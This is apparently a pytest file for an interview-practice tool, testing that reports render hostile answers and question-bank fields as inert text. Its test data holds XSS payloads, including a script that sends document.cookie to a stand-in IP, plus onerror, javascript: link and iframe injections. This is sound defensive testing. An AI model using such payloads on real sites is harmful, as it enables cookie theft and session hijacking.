"""Reports of unusual sessions, and hostile text from answers, the bank or a model, rendered as text."""

from __future__ import annotations

import json

from interviewer.fakes import FakeEmbedder
from interviewer.grader import Grader
from interviewer.knowledge.schema import Question
from interviewer.knowledge.store import KnowledgeStore, open_client
from interviewer.render import grade_markdown, markdown_safe, report_markdown, report_text
from interviewer.report import build_report
from interviewer.session import Interview, SessionOptions

SCRIPT = '<script>fetch("http://203.0.113.9/?c=" + document.cookie)</script>'
TRAPS = (SCRIPT, '<img src=x onerror="alert(1)">', "[click me](javascript:alert(2))",
         "![pixel](http://203.0.113.9/track.png)", "<iframe src=http://203.0.113.9>")


def _hostile_question() -> Question:
    trap = " ".join(TRAPS)
    return Question(
        id="hostile-q", topic="hostile", level="mid", question=f"What is a reward model? {trap}",
        answer=" ".join(["A reward model scores answers by human preference."] * 12) + " " + trap,
        key_points=[f"It scores answers. {trap}", "It learns from comparisons.", "It gives a scalar."],
        follow_ups=[{"key_point": 1, "ask": f"What does it score? {trap}"}],
        glossary=["reward model"], references=[trap])


def _interview(tmp_path, *answers: str) -> Interview:
    store = KnowledgeStore(open_client(tmp_path / "store"), FakeEmbedder())
    store.ingest([_hostile_question()])
    interview = Interview(store.questions(), Grader(FakeEmbedder()), SessionOptions(topics=("hostile",), questions=1,
                                                                         follow_ups=0), id="abc123")
    interview.start()
    for answer in answers:
        interview.submit(answer)
    return interview


def _inert(markdown: str) -> bool:
    return all(tag not in markdown.lower() for tag in ("<script", "<img", "<iframe", "](javascript", "](http"))


def test_a_session_ended_with_no_answers_says_so(tmp_path):
    interview = _interview(tmp_path)
    interview.end()
    report = build_report(interview)
    for text in (report_markdown(report), report_text(report)):
        assert "None" not in text and "No answers were given, so there is no score" in text


def test_hostile_answers_and_bank_fields_render_as_text(tmp_path):
    answer = " ".join(TRAPS) + " It scores answers."
    interview = _interview(tmp_path, answer)
    report = build_report(interview)
    markdown = report_markdown(report)
    assert _inert(markdown) and "&lt;script>" in markdown and "&lt;iframe" in markdown
    assert "[click me]\\(javascript" in markdown  # the text is all there, its meaning gone
    grade = interview.turns[0].grade
    assert _inert(grade_markdown(grade))
    assert json.loads(json.dumps(report))["questions"][0]["answer"] == answer  # the data itself is untouched


def test_markdown_safe_is_idempotent_and_keeps_ordinary_text():
    for text in (*TRAPS, "a < b and c > d & e", "**bold** and `code`"):
        once = markdown_safe(text)
        assert markdown_safe(once) == once and _inert(once)
    assert markdown_safe("**bold** and `code`") == "**bold** and `code`"


def test_the_printable_report_has_the_markdown_reports_content_and_shows_hostile_text_as_text(tmp_path):
    from html.parser import HTMLParser

    from interviewer.render import report_html

    answer = " ".join(TRAPS) + " It scores answers."
    report = build_report(_interview(tmp_path, answer))
    page = report_html(report)

    class Tags(HTMLParser):
        def __init__(self):
            super().__init__()
            self.tags, self.attrs, self.text = set(), [], []

        def handle_starttag(self, tag, attrs):
            self.tags.add(tag)
            self.attrs += [name for name, _ in attrs]

        def handle_data(self, data):
            self.text.append(data)

    parsed = Tags()
    parsed.feed(page)
    assert not parsed.tags & {"script", "img", "iframe", "a", "link"}  # nothing runs, nothing is loaded
    assert not [name for name in parsed.attrs if name.startswith("on") or name in ("src", "href")]
    text = "".join(parsed.text)
    q = report["questions"][0]
    assert SCRIPT in text and answer in text and q["model_answer"] in text  # shown, every character, as text
    assert f"{q['score']}/10 ({q['letter']})" in text and q["tip"] in text
    for p in q["points"]:
        assert p["point"] in text and ">" + {"partial": "partly"}.get(p["status"], p["status"]) + "<" in page
    assert all(step in text for step in report["next_steps"]) and "Overall score" in text
